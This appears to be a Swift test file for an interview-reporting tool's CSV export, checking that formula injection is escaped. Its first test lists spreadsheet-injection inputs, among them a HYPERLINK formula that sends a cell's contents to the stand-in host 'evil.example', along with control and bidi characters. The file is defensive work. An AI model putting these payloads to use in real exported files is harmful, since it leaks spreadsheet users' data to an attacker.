import Inquiry
import InterviewSupport
import Reports
import Testing

@Suite struct `A table as CSV` {
  /// SECURITY, attacks 1 to 3: nothing that a spreadsheet would work out.
  @Test(arguments: [
    (
      #"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#,
      #""'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")""#
    ),
    ("=1+1", #""'=1+1""#), ("+1+1", #""'+1+1""#), ("-1+1", #""'-1+1""#),
    ("@SUM(1)", #""'@SUM(1)""#), ("\t=1+1", #""' =1+1""#), ("\r=1+1", #""' =1+1""#),
    ("\n=1+1", "\"'\n=1+1\""), ("\0=1+1", #""'⟦U+0000⟧=1+1""#), ("＝1+1", #""'＝1+1""#),
    (" =1+1", #""' =1+1""#), ("\u{200B}=1+1", #""'⟦U+200B⟧=1+1""#),
    ("=\u{301}1+1", "\"'=\u{301}1+1\""), ("\u{301}=1", "\"'\u{301}=1\""),
    ("x;=1+1", #""x;=1+1""#), (#"x",=1+1"#, #""x"",=1+1""#), ("x\r\n=1+1", "\"x \n=1+1\""),
    ("a,b", #""a,b""#), ("", #""""#), ("1-1=0", #""1-1=0""#), ("😀", #""😀""#),
    ("\u{1B}[2J", #""␛[2J""#), ("\u{202E}teiN", #""⟦U+202E⟧teiN""#),
  ])
  func `holds each text in one cell that nothing is worked out of`(text: String, cell: String) {
    let table = Table(columns: ["a"], rows: [[.text(text)]])
    #expect(Array(table.csv().unicodeScalars) == Array("\"a\"\r\n\(cell)\r\n".unicodeScalars))
  }

  @Test func `writes numbers bare, shares with three decimals, and what is unknown as nothing`() {
    let table = Table(
      columns: ["a", "b", "c", "d"],
      rows: [[.number(-3), .thousandths(1087), .nothing, .text("é")]])
    #expect(
      Array(table.csv(marksBytes: true).utf8)
        == [0xEF, 0xBB, 0xBF]
        + Array("\"a\",\"b\",\"c\",\"d\"\r\n-3,1.087,,\"é\"\r\n".utf8))
  }
}

@Suite struct `A report as a table` {
  @Test func `has one row a mention, and one for what was not asked`() {
    let summary = summary(HeldInterview("i1", "It was always done, always done."))
    #expect(
      summary.table(in: .dutch).csv() == """
        "row","chain","partner","partner_name","kind","kind_name","people","standing",\
        "interview","n","start","end","consent","quote","own_name","own_name_n","voice","rule",\
        "hand_over"\r
        "mention","home","ward","The Ward","habit","gewoonte",1,"heard","i1",1,7,18,2,\
        "always done",,,"self","habit","the letter"\r
        "mention","home","ward","The Ward","habit","gewoonte",1,"heard","i1",1,20,31,2,\
        "always done",,,"self","habit","the letter"\r
        "not_spoken_to","home",,"Care at home",,,,,,,,,,,,,,,\r
        "not_spoken_to","home",,"The Shop",,,,,,,,,,,,,,,\r
        "not_asked","home","care","Care at home",,,,,,,,,,,,,,,"the letter"\r

        """)
  }

  @Test func `of a transcript says of each question why there is an answer or none`() {
    var interview = HeldInterview("i1", "=1+1, between us.")
    interview.take(interview.engine.note(.sharesAgain))
    interview.take(interview.engine.receive("For her."))
    interview.take(interview.engine.strike(2))
    interview.take(interview.engine.skip())
    let table = TranscriptReport(of: interview.record, isOwnCopy: false).table(in: .english)
    let states = table.rows.map { $0[8] }
    #expect(states == [.text("withheld"), .text("taken_back"), .text("skipped"), .text("open")])
    #expect(table.rows.map { $0[9] } == [.nothing, .nothing, .nothing, .nothing])
    let own = TranscriptReport(of: interview.record, isOwnCopy: true).table(in: .english)
    #expect(own.csv().contains(#","answered","'=1+1, between us.",0,"#))
  }

  @Test func `of conduct has one row a measure`() {
    let record = HeldInterview("i1", "We call.").record
    let table = ConductReport([ConductReport.Entry(record, conduct: record.conduct)])
      .table(in: .dutch)
    #expect(table.csv().contains(#""i1","2025-11-22","The Ward","small 1","participant_words",2"#))
    #expect(table.csv().contains(#""move:grand_tour",1"#))
  }
}
